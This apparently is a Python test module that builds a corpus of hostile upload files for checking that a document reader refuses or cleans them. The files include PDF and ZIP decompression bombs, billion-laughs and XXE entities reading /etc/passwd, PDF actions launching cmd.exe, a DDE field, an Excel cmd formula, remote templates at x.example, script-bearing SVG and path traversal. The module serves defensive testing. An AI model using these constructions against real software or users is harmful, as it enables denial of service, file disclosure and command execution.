"""Hostile files: `python -m tests.files.hostile DIR` writes them out, the tests hold that none does harm.

Each is refused in words (the words expected stand with it), or taken and made harmless (`HARMLESS`: what must be gone).
"""

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pypdf

from tests.files import making
from tests.files.making import jpeg, office, packed, pdf, photo_object, png, relationship, stream

_TYPE = "application/vnd.openxmlformats-officedocument"
_EXIF = (b"Exif\0\0", b"May anh", b"ns.adobe.com")
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"


@dataclass(frozen=True)
class Hostile:
    """One file: what it is called, what it holds, what of the refusal's words must be read or what must be gone."""

    what: str
    name: str
    make: Callable[[], bytes]
    refused: str = ""
    gone: tuple[bytes, ...] = ()
    # Either is right: a reader that becomes better at it need not refuse.
    either: bool = False


# ---------- PDF ----------
def pages(how_many: int) -> bytes:
    """As many pages, each an object of its own."""
    kids = b" ".join(b"%d 0 R" % number for number in range(6, 6 + how_many))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
    return pdf("x", *[page] * how_many, kids=b"[%b]" % kids, count=how_many)


def tree_of_twos() -> bytes:
    """A page tree whose every node has the next one twice: 2 to the 40 pages."""
    nodes = [b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count 2>>" % (number + 1, number + 1) for number in range(6, 46)]
    return pdf("x", *nodes, b"<</Type/Page/MediaBox[0 0 9 9]>>", kids=b"[6 0 R]", count=2)


def forms_of_twos() -> bytes:
    """Drawings that each draw the next one twice."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A %d 0 R>>>>"
    forms = [stream(b"/A Do /A Do", form % (number + 1)) for number in range(6, 40)]
    last = stream(b"BT (x) Tj ET", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    drawn = pdf("x", *forms, last, content=b"/A Do /A Do")
    return drawn.replace(b"<</Font<</F1 5 0 R>>>>", b"<</XObject<</A 6 0 R>>>>")


def locked() -> bytes:
    """A PDF that opens with a password alone."""
    writer, out = pypdf.PdfWriter(clone_from=io.BytesIO(pdf())), io.BytesIO()
    writer.encrypt("mat khau", algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def glyph_maps() -> bytes:
    """What froze the site: a font's map that a search with steps back walks through again and again."""
    opened = b"beginbfrange " + b"<0000> <ffff> " * 20_000 + b"beginbfchar " * 20_000
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/ToUnicode 7 0 R/DescendantFonts[]>>"
    return pdf("x", font, packed(opened)).replace(b"/F1 5 0 R", b"/F1 6 0 R")


def with_zip() -> bytes:
    """A PDF that is an archive too."""
    out = io.BytesIO(pdf())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("x.txt", "x")
    return out.getvalue() + b"\n%%EOF\n"


def of_pdf() -> Iterator[Hostile]:
    yes = b"/OpenAction 6 0 R"
    yield Hostile("glyph maps without end", "cmap.pdf", glyph_maps, either=True)
    yield Hostile("a page that unpacks to 110 MB", "bomb.pdf", lambda: _page_of(
        zlib.compress(bytes(110_000_000), 1), b"/FlateDecode"), "quá nặng")  # fmt: skip
    yield Hostile("a bomb packed twice", "bomb2.pdf", lambda: _page_of(
        zlib.compress(zlib.compress(bytes(110_000_000), 1), 9), b"[/FlateDecode/FlateDecode]"), "quá nặng")  # fmt: skip
    yield Hostile("10,000 pages", "pages.pdf", lambda: pages(10_000), "hơn 1000 trang")
    yield Hostile("a page tree of 2^40 pages", "tree.pdf", tree_of_twos, "Tệp")
    yield Hostile("a page tree that bites its tail", "tail.pdf", lambda: pdf("x", kids=b"[2 0 R]"), "hỏng", either=True)
    yield Hostile("drawings of 2^34 drawings", "forms.pdf", forms_of_twos, either=True)
    yield Hostile("brackets in brackets", "deep.pdf", lambda: pdf("x", b"[" * 200_000 + b"]" * 200_000), "Tệp")
    yield Hostile("a million letters, each placed alone", "moved.pdf",
                  lambda: _page_of(zlib.compress(b"BT /F1 9 Tf " + b"1 0 0 1 5 5 Tm (a) Tj " * 900_000 + b"ET"),
                                   b"/FlateDecode"), "Tệp")  # fmt: skip
    yield Hostile("an index that points to itself", "index.pdf",
                  lambda: pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev 9"), either=True)  # fmt: skip
    for what, action in {
        "JavaScript": b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
        "a program": b"<</S/Launch/F(cmd.exe)>>",
        "a form sent away": b"<</S/SubmitForm/F(https://x.example)>>",
        "another machine's file": b"<</S/GoToR/F(\\\\\\\\x.example\\\\a.pdf)/D[0/Fit]>>",
        "a file of this machine": b"<</S/URI/URI(file:///c:/windows)>>",
        "JavaScript by another spelling": b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>",
    }.items():
        yield Hostile(f"opens with {what}", "open.pdf", lambda a=action: pdf("x", a, catalog=yes), "in ra PDF")
    yield Hostile("opens with a program, its kind elsewhere", "open.pdf", lambda: pdf(
        "x", b"<</S 7 0 R/F(cmd.exe)>>", b"/Launch", catalog=yes), "in ra PDF")  # fmt: skip
    yield Hostile("a file attached", "attached.pdf", lambda: pdf(
        "x", b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>", stream(b"MZ", b"/Type/EmbeddedFile"),
        catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe) 6 0 R]>>>>"), "tệp khác gắn bên trong")  # fmt: skip
    yield Hostile("a form that is a program", "xfa.pdf",
                  lambda: pdf("x", stream(b"<xdp/>"), catalog=b"/AcroForm<</XFA 6 0 R/Fields[]>>"), "lệnh")  # fmt: skip
    yield Hostile("a film", "film.pdf", lambda: pdf(
        "x", b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>", page=b"/Annots[6 0 R]"), "phim")  # fmt: skip
    yield Hostile("a password", "locked.pdf", locked, "mật khẩu")
    yield Hostile("a photo with its place", "photo.pdf", lambda: pdf("x", photo_object(jpeg())), gone=_EXIF)
    yield Hostile("a photo with its place, packed", "photo2.pdf", lambda: pdf(
        "x", photo_object(zlib.compress(jpeg()), b"[/FlateDecode/DCTDecode]")), "nơi chụp")  # fmt: skip
    yield Hostile("a photo with its place, signed", "photo3.pdf", lambda: pdf(
        "x", photo_object(jpeg()), b"<</Type/Sig/ByteRange[0 1 2 3]>>"), "chữ ký số")  # fmt: skip
    yield Hostile("a photo with its place in what a page draws", "inline.pdf", lambda: _page_of(zlib.compress(
        b"BI /W 40 /H 20 /CS /RGB /BPC 8 /F /DCT ID " + jpeg() + b" EI"), b"/FlateDecode"), "nơi chụp")  # fmt: skip
    yield Hostile("a place in the description", "xmp.pdf", lambda: pdf(
        "x", stream(b"<x:xmpmeta xmlns:x='a'><exif:GPSLatitude>11,5N</exif:GPSLatitude></x:xmpmeta>",
                    b"/Type/Metadata/Subtype/XML"), catalog=b"/Metadata 6 0 R"), "nơi chụp")  # fmt: skip
    yield Hostile("an archive too", "zip.pdf", with_zip, "không phải PDF")
    yield Hostile("a page of the web too", "html.pdf", lambda: b"<html><script>alert(1)</script>" + pdf(),
                  "không phải PDF")  # fmt: skip
    yield Hostile("a program by its bytes", "exe.pdf", lambda: b"MZ\x90\0" * 100, "không phải PDF")
    yield Hostile("cut in the middle", "cut.pdf", lambda: pdf()[:300], "không phải PDF")


def _page_of(data: bytes, how: bytes) -> bytes:
    """A page that draws a packed stream."""
    return pdf("x", stream(data, b"/Filter" + how)).replace(b"/Contents 4 0 R", b"/Contents 6 0 R")


# ---------- Office ----------
def of_office() -> Iterator[Hostile]:
    yield Hostile("unpacks to 110 MB", "bomb.docx", lambda: office(parts={"word/styles.xml": (
        f"{_TYPE}.wordprocessingml.styles+xml", bytes(110_000_000))}), "bung ra quá lớn")  # fmt: skip
    yield Hostile("90 MB of text", "long.docx", lambda: office(body="<w:p><w:r><w:t>M</w:t></w:r></w:p>" * 2_500_000),
                  "quá nặng")  # fmt: skip
    yield Hostile("opened signs without end", "open.docx", lambda: office(body="<" * 3_000_000), "Không mở được")
    yield Hostile("laughs", "laughs.docx", lambda: office(root=_laughs()), "Không mở được")
    yield Hostile("asks for a file of the server", "xxe.docx", lambda: office(
        root='<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'), "Không mở được")  # fmt: skip
    yield Hostile("elements in elements", "deep.docx", lambda: office(root="<a>" * 200_000 + "</a>" * 200_000),
                  "Không mở được")  # fmt: skip
    yield Hostile("10,000 parts", "parts.docx", lambda: office(
        parts={f"word/a{n}.xml": ("", "<a/>") for n in range(10_000)}), "bung ra quá lớn")  # fmt: skip
    yield Hostile("two parts of one name", "twice.docx", _twice, "Không mở được")
    yield Hostile("a path that leads out", "path.docx", lambda: office(
        parts={"word/../../../etc/x.xml": ("application/xml", "<a/>")}), "Không mở được")  # fmt: skip
    yield Hostile("locked parts", "zip-locked.docx", _locked_parts, "Không mở được")
    yield Hostile("a password", "locked.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3000), "mật khẩu")
    yield Hostile("a picture too", "gif.docx", lambda: b"GIF89a" + office(), "Không mở được")
    yield Hostile("something behind its end", "behind.docx", lambda: office() + b"<script>", "Không mở được")
    yield Hostile("a list called a text", "list.docx", lambda: office("xlsx"), "không phải tệp DOCX")
    yield from _of_macros()
    yield from _of_outside()
    yield from _of_pictures()


def _of_macros() -> Iterator[Hostile]:
    vba = "application/vnd.ms-office.vbaProject"
    yield Hostile("a macro", "macro.docx", lambda: office(
        parts={"word/vbaProject.bin": (vba, b"x")}, related=relationship(f"{MICROSOFT}/vbaProject", "vbaProject.bin")),
        "macro")  # fmt: skip
    yield Hostile("a macro called a picture", "hidden.docx", lambda: office(
        parts={"word/media/a.png": ("image/png", png())},
        related=relationship(f"{MICROSOFT}/vbaProject", "media/a.png")), "macro")  # fmt: skip
    yield Hostile("a macro file by its kind", "docm.docx", lambda: office(
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "macro")  # fmt: skip
    yield Hostile("a macro sheet of Excel 4", "xlm.xlsx", lambda: office(
        "xlsx", parts={"xl/macrosheets/sheet1.xml": ("application/vnd.ms-excel.macrosheet+xml", "<a/>")},
        related=relationship(f"{MICROSOFT}/xlMacrosheet", "macrosheets/sheet1.xml")), "macro")  # fmt: skip
    yield Hostile("a macro sheet called a sheet", "xlm2.xlsx", lambda: office(
        "xlsx", parts={"xl/worksheets/sheet1.xml": (f"{_TYPE}.spreadsheetml.worksheet+xml", "<a/>")},
        related=relationship(f"{MICROSOFT}/xlMacrosheet", "worksheets/sheet1.xml")), "macro")  # fmt: skip
    yield Hostile("an OLE object", "ole.docx", lambda: office(
        parts={"word/embeddings/a.bin": (f"{_TYPE}.oleObject", b"\xd0\xcf\x11\xe0")},
        related=relationship("oleObject", "embeddings/a.bin")), "chương trình khác")  # fmt: skip
    yield Hostile("a control", "activex.docx", lambda: office(
        parts={"word/activeX/a.xml": ("application/vnd.ms-office.activeX+xml", "<a/>")},
        related=relationship("control", "activeX/a.xml")), "chương trình khác")  # fmt: skip
    yield Hostile("a web extension", "extension.docx", lambda: office(
        parts={"word/webextensions/a.xml": ("application/vnd.ms-office.webextension+xml", "<a/>")}),
        "không nhận")  # fmt: skip
    yield Hostile("a slide that starts a program", "action.pptx", lambda: office(
        "pptx", root='<p><a:hlinkClick xmlns:a="a" action="ppaction://program"/></p>'), "chạy lệnh")  # fmt: skip
    yield Hostile("a film", "film.pptx", lambda: office(
        "pptx", parts={"ppt/media/a.mp4": ("video/mp4", b"x")}), "không nhận")  # fmt: skip


def _of_outside() -> Iterator[Hostile]:
    def outside(kind: str, target: str) -> Callable[[], bytes]:
        return lambda: office(related=relationship(kind, target, outside=True))

    yield Hostile("a template elsewhere", "template.docx", outside("attachedTemplate", "https://x.example/a.dotm"),
                  "ở nơi khác")  # fmt: skip
    yield Hostile("a template elsewhere, called a link", "template2.docx", lambda: office(
        body='<w:attachedTemplate r="rId1"/>',
        related=relationship("hyperlink", "https://x.example/a.dotm", outside=True)), "ở nơi khác")  # fmt: skip
    yield Hostile("a picture elsewhere, called inside", "inside.docx", lambda: office(
        related=relationship("image", "https://x.example/a.png")), "ở nơi khác")  # fmt: skip
    yield Hostile("relations in capitals", "capitals.docx", lambda: office(
        parts={"word/_rels/document.xml.RELS": ("", "<a>" + relationship("oleObject", "a.bin") + "</a>")}),
        "chương trình khác")  # fmt: skip
    yield Hostile("a picture elsewhere", "beacon.docx", outside("image", "https://x.example/a.png"), "ở nơi khác")
    yield Hostile("a link into another machine", "link.docx", outside("hyperlink", "file://///x.example/a"),
                  "ở nơi khác")  # fmt: skip
    yield Hostile("a page of the web inside", "chunk.docx", lambda: office(
        parts={"word/a.html": ("text/html", "<script>alert(1)</script>")},
        related=relationship("aFChunk", "a.html")), "không nhận")  # fmt: skip
    field = "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:r></w:p>"
    yield Hostile("a field that starts a program", "dde.docx", lambda: office(body=field), "chạy lệnh")
    yield Hostile("a drawing fetched", "vml.docx", lambda: office(
        body='<v:imagedata xmlns:v="v" src="https://x.example/a"/>'), "ở nơi khác")  # fmt: skip
    yield Hostile("a link to a workbook", "book.xlsx", lambda: office(
        "xlsx", parts={"xl/externalLinks/a.xml": (f"{_TYPE}.spreadsheetml.externalLink+xml", "<a/>")}),
        "không nhận")  # fmt: skip
    yield Hostile("a connection", "data.xlsx", lambda: office(
        "xlsx", parts={"xl/connections.xml": (f"{_TYPE}.spreadsheetml.connections+xml", "<a/>")}),
        "không nhận")  # fmt: skip
    sheet = f"{_TYPE}.spreadsheetml.worksheet+xml"
    for what, formula in {"asks the web": "WEBSERVICE(A1)", "starts a program": "cmd|'/c calc'!A0"}.items():
        yield Hostile(f"a formula that {what}", "formula.xlsx", lambda f=formula: office(
            "xlsx", parts={"xl/worksheets/a.xml": (sheet, f"<s><c><f>{f}</f></c></s>")}), "chạy lệnh")  # fmt: skip


def _of_pictures() -> Iterator[Hostile]:
    def holding(path: str, kind: str, content: bytes) -> Callable[[], bytes]:
        return lambda: office(parts={path: (kind, content)}, related=relationship("image", path))

    yield Hostile("a photo with its place", "photo.docx", holding("word/media/a.jpg", "image/jpeg", jpeg()), gone=_EXIF)
    place = (b"eXIf", b"Exif\0\0MM"), (b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0http://ns.adobe.com/xap/1.0/")
    yield Hostile("a picture with its place", "png.docx", holding("word/media/a.png", "image/png", png(*place)),
                  gone=(*_EXIF, b"eXIf"))  # fmt: skip
    yield Hostile("a scan with its maker", "tiff.docx", holding("word/media/a.tif", "image/tiff", making.tiff()),
                  "nơi chụp")  # fmt: skip
    yield Hostile("a drawing with a script", "svg.docx", holding(
        "word/media/a.svg", "image/svg+xml", b"<svg><script>alert(1)</script></svg>"), "hình vẽ")  # fmt: skip
    inner = office("xlsx")
    yield Hostile("an archive inside", "nested.docx", lambda: office(
        parts={"word/embeddings/a.zip": ("application/zip", inner)}), "không nhận")  # fmt: skip
    yield Hostile("a file in a file in a file", "matryoshka.docx", _matryoshka, "tệp gắn trong tệp gắn")


def _laughs() -> str:
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE a [<!ENTITY a0 "ha">{lines}]><a>&a9;</a>'


def _twice() -> bytes:
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/document.xml", "<a/>")
    return out.getvalue()


def _locked_parts() -> bytes:
    """Each part of the directory says that it is locked."""
    out, place = bytearray(office()), -1
    while (place := out.find(b"PK\x01\x02", place + 1)) >= 0:
        out[place + 8] |= 1
    return bytes(out)


def _matryoshka() -> bytes:
    kind = f"{_TYPE}.wordprocessingml.document"
    inside = office(
        parts={"word/embeddings/a.docx": (kind, office(parts={"word/embeddings/a.docx": (kind, office())}))}
    )
    return office(parts={"word/embeddings/a.docx": (kind, inside)})


# ---------- Photos and plain text ----------
def of_the_rest() -> Iterator[Hostile]:
    yield Hostile("a photo with its place", "photo.jpg", jpeg, gone=_EXIF)
    yield Hostile("an archive behind a photo", "zip.jpg", lambda: jpeg() + office(), gone=(b"PK\x03\x04",))
    yield Hostile("a script in a photo's comment", "comment.jpg", lambda: jpeg(comment=b"<script>alert(1)</script>"),
                  gone=(b"<script>",))  # fmt: skip
    yield Hostile("400 megapixels", "bomb.png", lambda: _empty_png(20_000), "quá lớn")
    yield Hostile("a text that unpacks to 100 MB", "text.png", lambda: png((b"zTXt", b"a\0\0" + zlib.compress(
        bytes(100_000_000), 1))), either=True, gone=(b"zTXt",))  # fmt: skip
    yield Hostile("a drawing with a script", "svg.png", lambda: b"<svg onload='alert(1)'/>", "Không mở được ảnh")
    yield Hostile("a page of the web", "html.jpg", lambda: b"<html><script>", "Không mở được ảnh")
    yield Hostile("a photo called a PDF", "photo.pdf", jpeg, "không phải PDF")
    yield Hostile("a program", "exe.txt", lambda: b"MZ\x90\0\x03", "Không đọc được chữ")
    yield Hostile("a page of the web, as text", "html.txt", lambda: b"<html><script>alert(1)</script>")
    yield Hostile("a name that reads backwards", "bao-cao-\u202excod.txt", lambda: b"x")


def _empty_png(side: int) -> bytes:
    """A white square, without laying it out here."""
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(bytes(1 + side // 8)) for _ in range(side)) + packer.flush()
    chunks = (b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)), (b"IDAT", rows), (b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )


def corpus() -> list[Hostile]:
    """All of them."""
    return [*of_pdf(), *of_office(), *of_the_rest()]


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for number, one in enumerate(corpus(), 1):
        (folder / f"{number:02} {one.name}").write_bytes(one.make())
